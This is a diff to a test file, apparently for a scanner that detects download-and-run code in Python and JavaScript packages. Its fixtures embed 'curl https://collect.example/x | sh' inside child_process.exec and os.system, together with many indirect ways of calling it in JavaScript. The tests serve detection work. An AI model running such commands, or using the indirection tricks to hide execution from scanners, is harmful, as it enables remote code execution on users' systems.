@@ -12,6 +12,7 @@ from fimci.sources.locator import Locator
 
 LINE = "curl https://collect.example/x | sh"
 RUNS = f"require('child_process').exec('{LINE}')"
+GIVES = f"exports.run = () => {{ {RUNS} }};"
 SYSTEM = f"os.system('{LINE}')"
 RUN = f"import os\ndef run(): {SYSTEM}\n"
 
@@ -130,6 +131,18 @@ def test_python(tmp_path: Path, first: str, second: str) -> None:
             "const b = require('./b');\nrequire('child_process').exec(b.own);",
             f"const LINE = '{LINE}';\nmodule.exports = {{ own: LINE }};",
         ),
+        ("const b = require('./b');\n[b.run].forEach(f => f());", GIVES),
+        ("const b = require('./b');\nfor (const f of [b.other, b.run]) f();", GIVES),
+        ("[require('./b').run].map(f => f());", GIVES),
+        ("require('./b').run.bind(null)();", GIVES),
+        ("const b = require('./b');\nb.run.call(b);", GIVES),
+        ("const {run} = require('./b');\nrun.bind(null, 1)();", GIVES),
+        ("Reflect.apply(require('./b').run, null, []);", GIVES),
+        ("const b = require('./b');\n(0, b.run)();", GIVES),
+        ("(0, require('./b').run)();", GIVES),
+        ("require('./b').run`x`;", GIVES),
+        ("const b = require('./b');\nb['r' + 'un']();", GIVES),
+        ("const {tools: {run}} = require('./b');\nrun();", f"exports.tools = {{ run: () => {{ {RUNS} }} }};"),
     ],
 )
 def test_javascript(tmp_path: Path, first: str, second: str) -> None:
@@ -155,6 +168,32 @@ def test_javascript(tmp_path: Path, first: str, second: str) -> None:
 def test_what_is_only_made_runs_nothing(tmp_path: Path, first: str) -> None:
     second = f"import os\nclass Run:\n    def go(self): {SYSTEM}\ndef other(): pass\n"
     found = told(tmp_path, {"pkg/__init__.py": first, "pkg/b.py": second})
+    assert ("download-and-run", "call") in found
+    assert ("download-and-run", "import") not in found
+
+
+def test_what_compilers_hand_on(tmp_path: Path) -> None:
+    handed = (
+        "var b_1 = require('./b');\n"
+        "Object.defineProperty(exports, 'run', { enumerable: true, get: function () { return b_1.run; } });\n"
+    )
+    manifest = '{"name": "left", "version": "1.0.0", "main": "index.js"}'
+    files = {"package.json": manifest, "index.js": "require('./c').run();\n", "c.js": handed, "b.js": GIVES}
+    assert ("download-and-run", "import") in told(tmp_path, files)
+
+
+@pytest.mark.parametrize(
+    "first",
+    [
+        "const b = require('./b');\n[b.run].forEach(register);",
+        "const b = require('./b');\nfor (const f of [b.run]) register(f);",
+        "const b = require('./b');\nexports.start = b.run.bind(b);",
+        "const b = require('./b');\nb['ot' + 'her']();",
+        "const b = require('./b');\nfunction later() { (0, b.run)(); }",
+    ],
+)
+def test_what_is_only_handed_on_runs_nothing(tmp_path: Path, first: str) -> None:
+    found = told(tmp_path, {"index.js": first + "\n", "b.js": GIVES + "\n"})
     assert ("download-and-run", "call") in found
     assert ("download-and-run", "import") not in found
 
